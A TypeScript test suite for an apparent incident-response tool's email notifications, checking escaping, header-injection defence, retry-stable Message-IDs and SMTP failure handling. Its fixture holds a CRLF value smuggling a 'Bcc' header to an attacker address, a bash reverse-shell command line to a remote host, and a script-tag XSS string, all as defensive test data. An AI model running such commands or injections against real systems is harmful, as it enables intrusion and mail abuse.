/** The email notification against a real SMTP server (smtp-server), inside a real activity context. */
import { ApplicationFailure } from '@temporalio/common';
import { MockActivityEnvironment } from '@temporalio/testing';
import { afterEach, describe, expect, it } from 'vitest';
import { startTestSmtp, type TestSmtp } from '../../test/helpers/smtp.js';
import type { EmailReceipt, IncidentNotice } from '../../src/contracts/playbook.js';
import { createSmtpMailer } from './client.js';
import { loadNotifyConfig } from './config.js';
import { createNotifyActivities } from './index.js';

const notice: IncidentNotice = {
  incidentId: 'inc-web-01-0123456789abcdef',
  host: 'web-01',
  rule: 'Run shell untrusted\r\nBcc: attacker@evil.test',
  severity: 'high',
  verdict: 'malicious',
  riskScore: 90,
  techniques: [
    {
      id: 'T1059.004',
      known: true,
      name: 'Command and Scripting Interpreter: Unix Shell',
      tactics: ['execution'],
    },
  ],
  lineage: ['bash', 'nginx'],
  reasons: ['reverse-shell-pattern (+35)'],
  recommended: ['isolate-host: needs approval'],
  eventCount: 3,
  firstSeen: '2026-11-26T09:00:00Z',
  commandLine: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 <script>alert(1)</script>',
  playbook: 'suspicious-process@1.0.0',
};

let smtp: TestSmtp | undefined;
afterEach(async () => smtp?.close());

function activities(port: number, extra: Record<string, string> = {}) {
  const cfg = loadNotifyConfig({
    SMTP_HOST: '127.0.0.1',
    SMTP_PORT: String(port),
    SMTP_SECURITY: 'none',
    SMTP_TIMEOUT: '2s',
    VIGIL_MAIL_FROM: 'vigil@corp.test',
    VIGIL_MAIL_TO: 'soc@corp.test,lead@corp.test',
    ...extra,
  });
  return createNotifyActivities(createSmtpMailer(cfg), cfg);
}

const env = (activityId = '7') =>
  new MockActivityEnvironment({
    activityId,
    workflowExecution: { workflowId: 'inc-web-01-0123456789abcdef', runId: 'run-1' },
  });

/** Run notifyEmail as activity `activityId` of the same workflow run. */
const send = (a: ReturnType<typeof activities>, input: unknown, activityId = '7'): Promise<EmailReceipt> =>
  env(activityId).run<[IncidentNotice], EmailReceipt, (n: IncidentNotice) => Promise<EmailReceipt>>(
    (n) => a.notifyEmail(n),
    input as IncidentNotice,
  );

describe('notifyEmail', () => {
  it('delivers text and HTML to the configured recipients with escaped content and no header injection', async () => {
    smtp = await startTestSmtp();
    const r = await send(activities(smtp.port), notice);
    expect(r.accepted).toEqual(['soc@corp.test', 'lead@corp.test']);
    const m = smtp.messages[0];
    expect(m?.subject).toBe('[Vigil] MALICIOUS high on web-01: Run shell untrusted Bcc: attacker@evil.test');
    expect(m?.headers.get('bcc')).toBeUndefined();
    expect(m?.text).toContain('T1059.004 Command and Scripting Interpreter: Unix Shell');
    expect(m?.html).toContain('&lt;script&gt;');
    expect(m?.html).not.toContain('<script>');
    expect(m?.messageId).toBe(r.messageId);
    expect(m?.headers.get('x-vigil-incident')).toBe(notice.incidentId);
  });

  it('uses one deterministic Message-ID for every retry of the same activity, and another for another activity', async () => {
    smtp = await startTestSmtp();
    const a = activities(smtp.port);
    const first = await send(a, notice, '7');
    const retry = await send(a, notice, '7');
    const other = await send(a, notice, '8');
    expect(retry.messageId).toBe(first.messageId);
    expect(other.messageId).not.toBe(first.messageId);
    expect(smtp.messages.map((m) => m.messageId)).toEqual([
      first.messageId,
      first.messageId,
      other.messageId,
    ]);
  });

  it('fails non-retryably as Unauthenticated on wrong credentials, naming the server reply but not the password', async () => {
    smtp = await startTestSmtp({ user: 'vigil', password: 'right-password' });
    const err = await send(
      activities(smtp.port, { SMTP_USER: 'vigil', SMTP_PASSWORD: 'wrong-password' }),
      notice,
    ).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(ApplicationFailure);
    expect((err as ApplicationFailure).type).toBe('Unauthenticated');
    expect((err as ApplicationFailure).nonRetryable).toBe(true);
    expect((err as ApplicationFailure).message).not.toContain('wrong-password');
    expect(smtp.messages).toHaveLength(0);
  });

  it('fails retryably as Unavailable when the server is down, and delivers once it is back', async () => {
    smtp = await startTestSmtp();
    const port = smtp.port;
    await smtp.close();
    const a = activities(port);
    const err = await send(a, notice).catch((e: unknown) => e);
    expect((err as ApplicationFailure).type).toBe('Unavailable');
    expect((err as ApplicationFailure).nonRetryable).toBe(false);
    smtp = await startTestSmtp({ port });
    const ok = await send(a, notice);
    expect(smtp.messages.map((m) => m.messageId)).toEqual([ok.messageId]);
  });

  it('refuses malformed input non-retryably with the zod issues', async () => {
    smtp = await startTestSmtp();
    const err = await send(activities(smtp.port), { ...notice, riskScore: 400 }).catch((e: unknown) => e);
    expect((err as ApplicationFailure).type).toBe('InvalidInput');
    expect((err as ApplicationFailure).nonRetryable).toBe(true);
    expect((err as ApplicationFailure).message).toContain('riskScore');
  });
});
